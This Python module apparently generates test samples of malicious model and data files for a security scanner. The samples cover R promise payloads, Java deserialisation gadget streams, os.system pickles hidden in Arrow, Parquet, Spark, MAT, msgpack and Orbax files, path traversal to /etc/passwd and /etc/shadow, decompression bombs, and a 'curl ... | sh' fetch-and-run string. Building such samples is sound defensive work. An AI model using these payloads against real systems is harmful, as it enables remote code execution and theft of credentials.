"""Other languages' and columnar serialisations: R promises, Java gadgets, Spark, Arrow, Parquet, MAT, msgpack, Orbax."""

import gzip
import io
import json
import struct
import zlib

from assemble import call
from payload import COMMAND, HOST, URL
from registry import malicious

EVIL = call("os", "system", COMMAND)


# R: serialisation version 2 and 3, big-endian XDR.
def r_string(value: str) -> bytes:
    return struct.pack(">Ii", 0x00040009, len(value)) + value.encode()


def r_symbol(name: str) -> bytes:
    return struct.pack(">I", 1) + r_string(name)


def r_strings(*values: str) -> bytes:
    return struct.pack(">Ii", 0x10, len(values)) + b"".join(map(r_string, values))


NIL, GLOBAL_ENVIRONMENT, BASE_ENVIRONMENT = struct.pack(">I", 254), struct.pack(">I", 253), struct.pack(">I", 241)


def r_call(function: str, *arguments: bytes) -> bytes:
    """LANGSXP: function(arguments...)."""
    return struct.pack(">I", 6) + r_symbol(function) + b"".join(struct.pack(">I", 2) + a for a in arguments) + NIL


def r_promise(expression: bytes, environment=BASE_ENVIRONMENT) -> bytes:
    """PROMSXP: evaluated when the object is touched."""
    return struct.pack(">I", 5 | 0x400) + environment + NIL[:0] + struct.pack(">I", 251) + expression


def r_closure(body: bytes) -> bytes:
    return struct.pack(">I", 3 | 0x400) + GLOBAL_ENVIRONMENT + NIL + body


def r_list(*items: bytes, names=()) -> bytes:
    data = struct.pack(">Ii", 19 | (0x200 if names else 0), len(items)) + b"".join(items)
    return data + (struct.pack(">I", 0x402) + r_symbol("names") + r_strings(*names) + NIL if names else b"")


def rds(body: bytes, version=3) -> bytes:
    head = b"X\n" + struct.pack(">III", version, 0x040301, 0x030500 if version == 3 else 0x020300)
    return head + (struct.pack(">I", 5) + b"UTF-8" if version == 3 else b"") + body


def rdata(body: bytes, version=3) -> bytes:
    return (b"RDX3\n" if version == 3 else b"RDX2\n") + rds(struct.pack(">I", 0x402) + r_symbol("model") + body + NIL, version)


@malicious("r")
def r_objects():
    """RDS and RData with promises (CVE-2024-27322), calls, closures, active bindings and hooks that run a command."""
    shell = r_call("system", r_strings("id"))
    cases = {
        "promise-system": r_promise(shell), "promise-eval-parse": r_promise(r_call("eval", r_call("parse", r_strings("system('id')")))), "promise-source-url": r_promise(r_call("source", r_strings(URL))), "promise-readlines": r_promise(r_call("readLines", r_strings("/etc/passwd"))), "promise-download": r_promise(r_call("download.file", r_strings(URL), r_strings("/tmp/pwned-test"))), "promise-writelines": r_promise(r_call("writeLines", r_strings("x"), r_strings("/tmp/pwned-test"))), "promise-unknown": r_promise(r_call("evil_function")), "promise-symbol": r_promise(r_symbol("x")),
        "promise-dyn-load": r_promise(r_call("dyn.load", r_strings("/tmp/stage.so"))), "promise-shell-exec": r_promise(r_call("shell.exec", r_strings("calc.exe"))), "promise-install": r_promise(r_call("install.packages", r_strings("evil"))), "promise-system2": r_promise(r_call("system2", r_strings("id"))), "promise-env-file": r_promise(r_call("Sys.setenv", r_strings("x"))), "promise-unlink": r_promise(r_call("unlink", r_strings("/tmp/none"))), "promise-socket": r_promise(r_call("socketConnection", r_strings(HOST))), "promise-do-call": r_promise(r_call("do.call", r_strings("system"), r_strings("id"))),
        "closure-system": r_closure(shell), "closure-eval": r_closure(r_call("eval", r_call("parse", r_strings("x")))), "list-with-closure": r_list(r_strings("lm"), r_closure(shell), names=("class", "predict")), "list-with-promise": r_list(r_strings("lm"), r_promise(shell), names=("class", "coef")), "call-in-list": r_list(shell, names=("call",)), "nested-promise": r_list(r_list(r_list(r_promise(shell)))), "pipe-command": r_list(r_call("pipe", r_strings("id"))), "reg-finalizer": r_promise(r_call("reg.finalizer", r_closure(shell))),
    }
    for index, (slug, body) in enumerate(cases.items()):
        wrap = (gzip.compress, bytes)[index % 2]
        if index % 4 == 3:
            yield f"{slug}--model.RData", wrap(rdata(body, 3 - index % 2))
        else:
            yield f"{slug}--model.rds", wrap(rds(body, 3 - index % 2))
    import bz2
    import lzma

    yield "bz2--model.rds", bz2.compress(rds(r_promise(shell)))
    yield "xz--model.rda", lzma.compress(rdata(r_promise(shell)))
    yield "ascii--model.rds", b"A\n3\n262913\n197888\n5\nUTF-8\n1029\n241\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n"
    yield "length-beyond--model.rds", rds(struct.pack(">Ii", 14, 0x7FFFFFFF))
    yield "length-negative--model.rds", rds(struct.pack(">Ii", 19, -7))
    yield "deep--model.rds", rds(struct.pack(">Ii", 19, 1) * 200_000)
    yield "appended-elf--model.rds", rds(r_strings("a")) + b"\x7fELF\x02\x01\x01" + bytes(200)


# Java serialisation.
def j_utf(value: str) -> bytes:
    return struct.pack(">H", len(value.encode())) + value.encode()


def j_class(name: str, fields=(), flags=2, uid=1) -> bytes:
    data = b"r" + j_utf(name) + struct.pack(">qBH", uid, flags, len(fields))
    for kind, field_name, type_name in fields:
        data += kind.encode() + j_utf(field_name) + (b"t" + j_utf(type_name) if kind in "L[" else b"")
    return data + b"xp"


def j_object(name: str, fields=(), values=b"", flags=2) -> bytes:
    return b"s" + j_class(name, fields, flags) + values + (b"x" if flags & 1 else b"")


def java(*contents: bytes) -> bytes:
    return b"\xac\xed\x00\x05" + b"".join(contents)


JAVA_GADGETS = {
    "commons-collections-invoker": "org.apache.commons.collections.functors.InvokerTransformer", "commons-collections4-invoker": "org.apache.commons.collections4.functors.InvokerTransformer", "commons-collections-chained": "org.apache.commons.collections.functors.ChainedTransformer", "commons-instantiate": "org.apache.commons.collections.functors.InstantiateTransformer", "templates-impl": "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "annotation-handler": "sun.reflect.annotation.AnnotationInvocationHandler", "bean-comparator": "org.apache.commons.beanutils.BeanComparator",
    "spring-object-factory": "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler", "groovy-closure": "org.codehaus.groovy.runtime.ConvertedClosure", "rowset-jndi": "com.sun.rowset.JdbcRowSetImpl", "c3p0": "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase", "rmi-ref": "java.rmi.server.UnicastRemoteObject", "url-dns": "java.net.URL", "script-engine": "javax.script.ScriptEngineManager", "class-loader": "java.net.URLClassLoader", "rome": "com.sun.syndication.feed.impl.ObjectBean", "bsh": "bsh.XThis", "jython": "org.python.core.PyFunction", "clojure": "clojure.core$comp$fn__4727", "hibernate": "org.hibernate.engine.spi.TypedValue", "myfaces": "org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression", "aspectj-cache": "org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap", "vaadin": "com.vaadin.data.util.NestedMethodProperty", "bad-attribute": "javax.management.BadAttributeValueExpException", "signed-object": "java.security.SignedObject", "marshalled-object": "java.rmi.MarshalledObject", "unknown-class": "com.evil.Stage", "runtime": "java.lang.Runtime", "process-builder": "java.lang.ProcessBuilder",
}


@malicious("java")
def java_streams():
    """Java serialisation streams with the known gadget classes, inside collections, proxies and archives."""
    for index, (slug, name) in enumerate(JAVA_GADGETS.items()):
        values = b"t" + j_utf("exec") + b"t" + j_utf(COMMAND)
        data = java(j_object(name, (("L", "iMethodName", "Ljava/lang/String;"), ("L", "command", "Ljava/lang/String;")), values))
        yield f"{slug}--model.{('ser', 'bin', 'model', 'jser')[index % 4]}", data
    inner = j_object("org.apache.commons.collections.functors.InvokerTransformer", (("L", "iMethodName", "Ljava/lang/String;"),), b"t" + j_utf("exec"))
    yield "in-hashmap--model.ser", java(j_object("java.util.HashMap", (("F", "loadFactor", ""), ("I", "threshold", "")), struct.pack(">fI", 0.75, 12) + b"w\x08" + struct.pack(">II", 16, 1) + b"t" + j_utf("k") + inner, 3))
    yield "in-priority-queue--model.ser", java(j_object("java.util.PriorityQueue", (("I", "size", ""), ("L", "comparator", "Ljava/util/Comparator;")), struct.pack(">I", 2) + inner + b"w\x04" + struct.pack(">I", 3), 3))
    yield "proxy--model.ser", java(b"s}" + struct.pack(">I", 1) + j_utf("java.util.Map") + b"xr" + j_class("java.lang.reflect.Proxy", (("L", "h", "Ljava/lang/reflect/InvocationHandler;"),))[1:] + j_object("sun.reflect.annotation.AnnotationInvocationHandler"))
    yield "gzip--model.ser.gz", gzip.compress(java(inner))
    yield "weka--model.model", java(j_object("weka.classifiers.trees.J48", (("L", "m_root", "Ljava/lang/Object;"),), inner))
    yield "h2o-zip--model.zip", _zip({"model.ser": java(inner), "model.ini": b"[info]\nh2o_version = 3\n"})
    yield "class-file--model.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(8) + b"java/lang/Runtime\x01\x00\x04exec" + bytes(60)
    yield "jar--model.jar", _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(8) + b"java/lang/Runtime\x01\x00\x04exec" + bytes(60)})
    yield "huge-array--model.ser", java(b"u" + j_class("[B") + struct.pack(">i", 0x7FFFFFFF))
    yield "hashset-bomb--model.ser", java(*[j_object("java.util.HashSet", (), b"w\x0c" + struct.pack(">IfI", 16, 0.75, 2), 3)] * 60)


def _zip(members: dict) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in members.items():
            file.writestr(name, data)
    return out.getvalue()


@malicious("spark")
def spark_pipelines():
    """Spark ML folders whose metadata names a foreign class, with Java streams, pickles or traversal in stages."""
    def metadata(cls, **more) -> bytes:
        return json.dumps({"class": cls, "timestamp": 1, "sparkVersion": "3.4.0", "uid": "m_1", "paramMap": {}, "defaultParamMap": {}, **more}).encode()

    evil = java(j_object("org.apache.commons.collections.functors.InvokerTransformer"))
    for slug, cls in {"unknown": "com.evil.Stage", "runtime": "java.lang.Runtime", "python": "os.system", "script": "javax.script.ScriptEngineManager", "loader": "java.net.URLClassLoader", "subprocess": "subprocess.Popen", "sql-transformer": "org.apache.spark.ml.feature.SQLTransformer"}.items():
        more = dict(paramMap={"statement": "SELECT java_method('java.lang.Runtime', 'exec', 'id') FROM __THIS__"}) if "sql" in slug else {}
        yield f"class-{slug}--folder", {"metadata/part-00000": metadata(cls, **more), "metadata/_SUCCESS": b""}
    yield "stage-class--folder", {"metadata/part-00000": metadata("org.apache.spark.ml.PipelineModel", paramMap={"stageUids": ["a"]}), "stages/0_a/metadata/part-00000": metadata("evil.Stage")}
    yield "stage-traversal--folder", {"metadata/part-00000": metadata("org.apache.spark.ml.PipelineModel", paramMap={"stageUids": ["../../../../tmp/stage"]})}
    yield "java-stream--folder", {"metadata/part-00000": metadata("org.apache.spark.ml.PipelineModel"), "data/part-00000": evil}
    yield "pickled-udf--folder", {"metadata/part-00000": metadata("pyspark.ml.pipeline.PipelineModel", language="Python"), "udf.pkl": EVIL}
    yield "python-param-pickle--folder", {"metadata/part-00000": metadata("pyspark_evil.stage.Custom", language="Python", paramMap={"fn": __import__("base64").b64encode(EVIL).decode()})}
    yield "object-file--part-00000", b"SEQ\x06\x21org.apache.hadoop.io.NullWritable\x22org.apache.hadoop.io.BytesWritable" + bytes(20) + evil
    yield "zipped--model.zip", _zip({"metadata/part-00000": metadata("com.evil.Stage"), "data/part-00000": evil})


@malicious("arrow")
def arrow_and_feather():
    """Arrow IPC and Feather whose extension types or metadata carry pickles (CVE-2023-47248), compression bombs, broken structure."""
    import pyarrow as pa

    def written(metadata, feather=False, column=b"x", schema_metadata=None) -> bytes:
        schema = pa.schema([pa.field("a", pa.binary(), metadata=metadata)], metadata=schema_metadata)
        out = io.BytesIO()
        with (pa.ipc.new_file if feather else pa.ipc.new_stream)(out, schema) as writer:
            writer.write_batch(pa.record_batch([pa.array([column])], schema=schema))
        return out.getvalue()

    for protocol in (0, 2, 4):
        evil = call("os", "system", COMMAND, protocol=protocol)
        yield f"py-extension-p{protocol}--data.arrow", written({b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": evil}, protocol == 2)
    yield "py-extension-feather--data.feather", written({b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": EVIL}, True)
    yield "renamed-extension--data.arrow", written({b"ARROW:extension:name": b"my.type", b"ARROW:extension:metadata": EVIL})
    yield "pickle-extension--data.arrow", written({b"ARROW:extension:name": b"ray.data.arrow_pickled_object", b"ARROW:extension:metadata": b""}, column=EVIL)
    yield "ray-tensor--data.arrow", written({b"ARROW:extension:name": b"ray.data.arrow_tensor", b"ARROW:extension:metadata": EVIL})
    yield "datasets-pickle-cell--data.arrow", written({}, column=EVIL)
    yield "schema-metadata-pickle--data.arrow", written({}, schema_metadata={b"huggingface": EVIL})
    yield "schema-metadata-code--data.arrow", written({}, schema_metadata={b"on_load": b"import os; os.system('id')"})
    good = written({}, True)
    yield "truncated--data.arrow", good[: len(good) // 2]
    yield "footer-beyond--data.arrow", good[:-10] + struct.pack("<i", 0x7FFFFFFF) + b"ARROW1"
    yield "message-length-huge--data.arrows", b"\xff\xff\xff\xff" + struct.pack("<i", 0x7FFFFFFF) + bytes(64)


@malicious("parquet")
def parquet_files():
    """Parquet whose Arrow schema carries pickled extension types, cells that are pickles, lying footers."""
    import base64

    import pyarrow as pa
    import pyarrow.parquet as pq

    def written(metadata, column=b"x", schema_metadata=None) -> bytes:
        schema = pa.schema([pa.field("a", pa.binary(), metadata=metadata)], metadata=schema_metadata)
        out = io.BytesIO()
        pq.write_table(pa.table([pa.array([column])], schema=schema), out, compression="none")
        return out.getvalue()

    for protocol in (0, 2, 4):
        yield f"py-extension-p{protocol}--data.parquet", written({b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": call("os", "system", COMMAND, protocol=protocol)})
    yield "renamed-extension--data.parquet", written({b"ARROW:extension:name": b"my.type", b"ARROW:extension:metadata": EVIL})
    yield "pickle-cell--data.parquet", written({}, EVIL)
    yield "key-value-pickle--data.parquet", written({}, schema_metadata={b"state": EVIL})
    yield "key-value-base64-pickle--data.parquet", written({}, schema_metadata={b"state": base64.b64encode(EVIL)})
    yield "key-value-code--data.parquet", written({}, schema_metadata={b"init": b"__import__('os').system('id')"})
    good = written({})
    yield "footer-beyond--data.parquet", good[:-8] + struct.pack("<I", 0x7FFFFFFF) + b"PAR1"
    yield "no-tail--data.parquet", good[:-4]
    yield "pickle-renamed--data.parquet", EVIL
    yield "geoparquet-path--data.parquet", written({}, schema_metadata={b"external": b"file:///etc/passwd", b"file_path": b"../../../../etc/shadow"})


@malicious("mat")
def matlab_files():
    """MAT files with function handles, Java or Simulink objects, code strings, pickles, lengths that lie."""
    def element(kind: int, data: bytes) -> bytes:
        return struct.pack("<II", kind, len(data)) + data + bytes(-len(data) % 8)

    def matrix(cls: int, name: str, *more: bytes) -> bytes:
        return element(14, element(6, struct.pack("<II", cls, 0)) + element(5, struct.pack("<ii", 1, 1)) + element(1, name.encode()) + b"".join(more))

    def mat(*elements: bytes) -> bytes:
        return b"MATLAB 5.0 MAT-file, Platform: GLNXA64, Created on: Mon Jan 1 00:00:00 2024".ljust(124) + b"\x00\x01IM" + b"".join(elements)

    def char(name: str, text: str) -> bytes:
        return element(14, element(6, struct.pack("<II", 4, 0)) + element(5, struct.pack("<ii", 1, len(text))) + element(1, name.encode()) + element(4, text.encode("utf-16-le")))

    yield "function-handle--model.mat", mat(matrix(16, "f", char("", "@() system('id')")))
    yield "function-compressed--model.mat", mat(element(15, zlib.compress(matrix(16, "f", char("", "@(x) evalc('!id')")))))
    yield "opaque-java--model.mat", mat(matrix(17, "o", element(1, b"java"), element(1, b"java.lang.Runtime"), matrix(9, "", element(2, java(j_object("org.apache.commons.collections.functors.InvokerTransformer"))))))
    yield "object-class--model.mat", mat(matrix(3, "o", element(1, b"evil_class"), element(5, struct.pack("<i", 8)), element(1, b"cmd\0\0\0\0\0"), char("", "system('id')")))
    yield "loadobj--model.mat", mat(matrix(17, "o", element(1, b"MCOS"), element(1, b"EvilClass"), char("", "loadobj")))
    yield "code-string--model.mat", mat(char("init", "system('curl http://192.0.2.1/x | sh')"))
    yield "python-string--model.mat", mat(char("init", "__import__('os').system('id')"))
    yield "pickle-bytes--model.mat", mat(matrix(9, "state", element(2, EVIL)))
    yield "elf-bytes--model.mat", mat(matrix(9, "state", element(2, b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(300))))
    yield "length-beyond--model.mat", mat(struct.pack("<II", 14, 0x7FFFFFFF) + bytes(16))
    yield "zlib-bomb--model.mat", mat(element(15, zlib.compress(bytes(300_000_000), 9)))
    yield "dimensions-huge--model.mat", mat(element(14, element(6, struct.pack("<II", 6, 0)) + element(5, struct.pack("<iii", 0x7FFFFFFF, 0x7FFFFFFF, 9)) + element(1, b"x") + element(9, bytes(8))))
    yield "truncated--model.mat", mat(char("x", "hello"))[:150]
    yield "appended-pickle--model.mat", mat(char("x", "hello")) + EVIL


@malicious("msgpack")
def flax_msgpack():
    """Flax and Orbax msgpack files with pickled arrays or leaves, code strings, unknown extension types, bombs."""
    import msgpack

    def pack(value) -> bytes:
        return msgpack.packb(value, use_bin_type=True)

    array = msgpack.packb(((2,), "float32", bytes(8)), use_bin_type=True)
    yield "pickle-leaf--flax_model.msgpack", pack({"params": {"dense": {"kernel": EVIL}}})
    yield "pickle-ndarray--flax_model.msgpack", pack({"params": {"w": msgpack.ExtType(1, msgpack.packb(((1,), "object", EVIL), use_bin_type=True))}})
    yield "reduce-key--flax_model.msgpack", pack({"params": {}, "__reduce__": ["os.system", ["id"]]})
    yield "class-key--flax_model.msgpack", pack({"__class__": "subprocess.Popen", "args": ["id"]})
    yield "code-string--flax_model.msgpack", pack({"params": {}, "apply_fn": "lambda x: __import__('os').system('id')"})
    yield "eval-string--model.msgpack", pack({"params": {"w": msgpack.ExtType(1, array)}, "config": "eval(compile('import os; os.system(1)', '', 'exec'))"})
    yield "unknown-extension--flax_model.msgpack", pack({"params": {"w": msgpack.ExtType(77, EVIL)}})
    yield "lying-shape--flax_model.msgpack", pack({"params": {"w": msgpack.ExtType(1, msgpack.packb(((1 << 40, 1 << 20), "float32", bytes(8)), use_bin_type=True))}})
    yield "negative-shape--flax_model.msgpack", pack({"params": {"w": msgpack.ExtType(1, msgpack.packb(((-2,), "float32", bytes(8)), use_bin_type=True))}})
    yield "map-count-huge--flax_model.msgpack", b"\x81\xa6params\xdf\xff\xff\xff\xff\xa1a\x01"
    yield "array-count-huge--flax_model.msgpack", b"\x81\xa6params\xdd\xff\xff\xff\xff\x01"
    yield "bin-length-huge--flax_model.msgpack", b"\x81\xa6params\xc6\xff\xff\xff\xffabc"
    yield "deep--flax_model.msgpack", b"\x81\xa6params" + b"\x81\xa1a" * 100_000 + b"\xc0"
    yield "trailing-pickle--flax_model.msgpack", pack({"params": {"w": msgpack.ExtType(1, array)}}) + EVIL
    yield "elf-leaf--flax_model.msgpack", pack({"params": {"w": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(300)}})
    yield "numpy-msgpack-object--data.msgpack", pack({b"nd": True, b"kind": b"O", b"type": b"|O", b"shape": [1], b"data": EVIL})
    yield "pickle-renamed--flax_model.msgpack", EVIL


@malicious("orbax")
def orbax_checkpoints():
    """Orbax and JAX checkpoint folders with pickles, code in metadata, traversal."""
    metadata = {"tree_metadata": {"('params', 'w')": {"key_metadata": [{"key": "params", "key_type": 2}], "value_metadata": {"value_type": "np.ndarray"}}}}
    yield "pickle--folder", {"_METADATA": json.dumps(metadata).encode(), "checkpoint.pkl": EVIL}
    yield "pickle-checkpoint--folder", {"_CHECKPOINT_METADATA": b"{}", "checkpoint": EVIL}
    yield "type-handler--folder", {"_METADATA": json.dumps({**metadata, "custom_metadata": {"restore_fn": "os.system", "args": ["id"]}}).encode(), "checkpoint": b"\x80"}
    yield "code-in-metadata--folder", {"_METADATA": json.dumps({**metadata, "init": "jax.experimental.host_callback.call(lambda x: __import__('os').system('id'), 0)"}).encode(), "d/x": b""}
    yield "traversal--folder", {"_METADATA": json.dumps(metadata).encode(), "manifest.ocdbt": b"", ".zarray": b"{}", "params.w/.zarray": json.dumps({"path": "../../../../etc/passwd", "chunks": [1], "dtype": "|O", "filters": [{"id": "pickle"}], "compressor": None, "order": "C", "shape": [1], "zarr_format": 2, "fill_value": None}).encode()}
    yield "zarr-pickle-filter--folder", {".zgroup": b'{"zarr_format": 2}', "w/.zarray": json.dumps({"chunks": [1], "compressor": None, "dtype": "|O", "fill_value": None, "filters": [{"id": "pickle", "protocol": 4}], "order": "C", "shape": [1], "zarr_format": 2}).encode(), "w/0": EVIL}
    yield "jax-pickle--params.pkl", EVIL
